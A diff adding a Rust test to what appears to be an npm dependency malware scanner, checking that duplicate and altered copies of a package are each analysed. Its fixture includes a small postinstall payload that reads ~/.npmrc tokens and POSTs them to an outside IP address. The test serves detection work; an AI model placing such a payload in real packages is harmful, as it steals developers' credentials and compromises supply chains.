@@ -310,3 +310,67 @@ fn verdicts_are_shared_across_projects_by_integrity() {
     let tampered = project_with_integrity(true);
     assert_eq!(analysis(&json(&scan(tampered.path(), &cache, &[]))), (1, 0));
 }
+
+/// Writes a copy of `colors-helper` 1.0.1 (one integrity) at `dir`; `payload` is its
+/// postinstall file.
+fn write_colors_helper(dir: &Path, payload: &str) {
+    write(
+        &dir.join("package.json"),
+        "{\"name\":\"colors-helper\",\"version\":\"1.0.1\",\"scripts\":{\"postinstall\":\"node setup.js\"},\
+         \"_integrity\":\"sha512-5yBk//F1KEeM3SubhIXKWuKQbrcuEbId2E89wDMGLdvV6M0QRuYKrGXmJRWhlhvM1o2Qq/hpAAklffVv/Vz4ow==\"}",
+    );
+    write(&dir.join("setup.js"), payload);
+}
+
+#[test]
+fn copies_of_one_package_are_each_reported_and_a_changed_copy_is_analysed_on_its_own() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    write(
+        &root.join("package.json"),
+        r#"{"name":"app","version":"1.0.0","dependencies":{"colors-helper":"^1.0.0","a":"1.0.0","b":"1.0.0"}}"#,
+    );
+    write(
+        &root.join("node_modules/a/package.json"),
+        r#"{"name":"a","version":"1.0.0","dependencies":{"colors-helper":"^1.0.0"}}"#,
+    );
+    write(
+        &root.join("node_modules/b/package.json"),
+        r#"{"name":"b","version":"1.0.0","dependencies":{"colors-helper":"^1.0.0"}}"#,
+    );
+    let stealer = "const fs = require('fs');\nconst https = require('https');\n\
+         const token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n\
+         https.request({ hostname: '45.61.12.9', method: 'POST' }).end(token);\n";
+    // Two identical copies (same integrity, same files) and one whose setup.js differs.
+    write_colors_helper(&root.join("node_modules/colors-helper"), stealer);
+    write_colors_helper(
+        &root.join("node_modules/a/node_modules/colors-helper"),
+        stealer,
+    );
+    write_colors_helper(
+        &root.join("node_modules/b/node_modules/colors-helper"),
+        "module.exports = 'a changed file that does nothing at all';\n",
+    );
+    let cache = root.join("cache.sqlite3");
+    let report = json(&scan(root, &cache, &[]));
+    let mut flagged: Vec<&str> = report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["kind"] == "malicious-code")
+        .map(|f| f["install_path"].as_str().unwrap())
+        .collect();
+    flagged.sort_unstable();
+    assert_eq!(
+        flagged,
+        [
+            "node_modules/a/node_modules/colors-helper",
+            "node_modules/colors-helper"
+        ],
+        "{report:#}"
+    );
+    let summary = &report["summary"]["analysis"];
+    assert_eq!(summary["malicious"], 2, "{summary:#}");
+    assert_eq!(summary["clean"], 3, "{summary:#}");
+    assert_eq!(analysis(&report), (5, 0));
+}
